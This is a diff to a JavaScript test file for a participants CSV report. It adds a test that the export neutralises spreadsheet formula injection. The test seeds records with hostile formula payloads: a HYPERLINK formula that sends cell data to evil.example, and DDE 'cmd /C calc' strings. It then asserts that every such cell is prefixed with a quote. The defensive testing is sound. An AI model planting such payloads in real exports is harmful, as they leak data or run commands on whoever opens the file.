@@ -1057,7 +1057,7 @@ function row(key, kind, hours, age) {
     street: sent.street,
     postal_code: sent.postal_code,
     email: sent.email,
-    phone: sent.phone,
+    phone: `'${sent.phone}`, // a text cell that begins with + is neutralised (CSV injection)
     es_entity: PEOPLE[key].es ? E[PEOPLE[key].es].name : '',
     support_start: s(sent.support_start),
     support_end: s(sent.support_end),
@@ -1200,6 +1200,63 @@ test('participants.csv for April 2041 (Warsaw days): the rows of D4, D5 and D6',
     row('B2', 'advisory', '1.50', 50), // D4 at 2041-04-01 00:30 Warsaw: born 1991-04-01, 50 that day
     erasedRow('seminar', '4.00'), // D5
   ], 'April');
+});
+
+test('participants.csv neutralises text cells a spreadsheet would run as a formula (=, +, -, @): quoted, after a single quote; numbers and dates as they are', async () => {
+  // a day of 2043 that no other test uses; the rows are found by id anyway
+  const DAY = 'from=2043-05-05&to=2043-05-05';
+  const hostile = {
+    first_name: '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
+    last_name: `+cmd|' /C calc'!A0 ${T}`,
+    street: '-2+3+cmd|\' /C calc\'!A0',
+    entity: `@SUM(1+1)*cmd|' /C calc'!A0 ${T}`,
+  };
+  const entity = await made(admin, 'es-entities', { name: hostile.entity, legal_form: 'association', teryt_gmina: '1604013' });
+  const person = await made(coordinator.byczyna, 'beneficiaries', {
+    first_name: hostile.first_name, last_name: hostile.last_name, gender: 'female', birth_date: '1990-06-01',
+    teryt_gmina: '1604013', consent_on: '2026-01-15', street: hostile.street, phone: '+48 600 100 200',
+    es_entity_id: entity.id,
+  });
+  const plain = await made(coordinator.byczyna, 'beneficiaries', {
+    first_name: `Jan ${T}`, last_name: 'Kowalski-Nowak', gender: 'male', teryt_gmina: '1604013', consent_on: '2026-01-15',
+  });
+  const delivery = await made(coordinator.byczyna, 'deliveries', {
+    service_id: services.training.id, started_at: '2043-05-05T08:00:00Z', hours: 1.5, topic: `=1+1 ${T}`,
+  });
+  try {
+    await attend(coordinator.byczyna, delivery, person, true);
+    await attend(coordinator.byczyna, delivery, plain, true);
+    const res = await get(`/v1/reports/participants.csv?${DAY}`, admin);
+    assert.equal(res.status, 200, res.text);
+    // as the bytes are: the quote inside the quoted field
+    assert.ok(res.text.includes(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Kliknij"")","'+cmd|' /C calc'!A0 ${T}",`),
+      `the names are neutralised: ${res.text.slice(0, 800)}`);
+    assert.ok(res.text.includes(`,"'-2+3+cmd|' /C calc'!A0",`), 'the street is neutralised');
+    const { rows } = await csv(DAY);
+    const mine = rows.find((r) => r.beneficiary_id === person.id);
+    assert.ok(mine, `the person's row: ${JSON.stringify(rows)}`);
+    assert.equal(mine.first_name, `'${hostile.first_name}`);
+    assert.equal(mine.last_name, `'${hostile.last_name}`);
+    assert.equal(mine.street, `'${hostile.street}`);
+    assert.equal(mine.phone, "'+48 600 100 200");
+    assert.equal(mine.es_entity, `'${hostile.entity}`);
+    // the cells the service writes itself, and plain text, are untouched
+    assert.equal(mine.hours, '1.50');
+    assert.equal(mine.age_at_support_start, '52');
+    assert.equal(mine.gmina, 'Byczyna');
+    assert.equal(mine.service_kind, 'training');
+    const other = rows.find((r) => r.beneficiary_id === plain.id);
+    assert.ok(other, 'the plain person\'s row');
+    assert.equal(other.last_name, 'Kowalski-Nowak');
+    assert.equal(other.first_name, `Jan ${T}`);
+    for (const r of rows) {
+      for (const [column, value] of Object.entries(r)) {
+        assert.ok(!/^[=+\-@\t\r]/.test(value), `no cell starts a formula: ${column} ${JSON.stringify(value)}`);
+      }
+    }
+  } finally {
+    await deleted(coordinator.byczyna, `/v1/deliveries/${delivery.id}`);
+  }
 });
 
 test('participants.csv is 403 for the advisor and the integration', async () => {
